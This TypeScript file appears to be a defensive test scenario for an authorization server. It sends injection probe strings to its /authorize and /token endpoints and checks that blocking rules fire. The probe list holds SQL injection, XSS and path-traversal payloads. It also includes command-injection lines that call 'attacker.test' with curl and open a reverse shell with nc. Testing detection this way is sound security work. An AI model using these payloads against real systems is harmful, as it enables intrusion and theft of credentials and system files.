import { clientNamed } from '../stage/take-code.ts';
import { SCRIPT_AGENT } from '../stage/words.ts';
import type { Attack } from './attack.ts';

/** Of each kind that the server knows, as scanners send them. They are sent as text in places where a value is expected, and nowhere run. */
const probes: readonly string[] = [
  "' OR '1'='1' --",
  "1' UNION SELECT name, value FROM setting--",
  "admin'; DROP TABLE user;--",
  '1 AND (SELECT 1 FROM (SELECT SLEEP(5))x)',
  '<script>alert(document.cookie)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)//',
  '../../../../etc/passwd',
  '..%2f..%2f..%2fetc%2fshadow',
  '; cat /etc/passwd',
  '$(curl http://attacker.test/x)',
  '| nc attacker.test 4444 -e /bin/sh',
  'php://filter/convert.base64-encode/resource=index',
  'file:///etc/passwd',
];

export const injectionProbes: Attack = {
  id: 'injection-probes',
  title: 'Injection probes',
  story: 'From one address, the parameters of the endpoints are filled with SQL, script, paths and commands, to see what breaks.',
  technique: { id: 'T1190', name: 'Exploit Public-Facing Application', tactic: 'initial-access' },
  expects: [{ rule: 'injection-probes', subject: 'address' }],
  contained: ['address.blocked', 'request.blocked', 'address.penalised'],
  bounds: { requests: 60, milliseconds: 12_000 },
  async run(stage) {
    const { chance, http } = stage;
    const client = clientNamed(stage, 'staff-portal');
    const [address = ''] = stage.addresses.ofOneNetwork(1);
    const at = { address, agent: SCRIPT_AGENT };
    const left = [...probes];
    while (left.length > 0) {
      const [probe = ''] = left.splice(chance.between(0, left.length - 1), 1);
      const query = new URLSearchParams({
        response_type: 'code',
        client_id: client.id,
        redirect_uri: client.redirectUri ?? '',
        state: probe,
      });
      await http.send({ ...at, method: 'GET', path: `/authorize?${query}` });
      await http.send({
        ...at,
        method: 'POST',
        path: '/token',
        form: [
          ['grant_type', 'password'],
          ['username', probe],
          ['client_id', client.id],
        ],
      });
      await stage.pause(chance.between(20, 80));
    }
  },
};
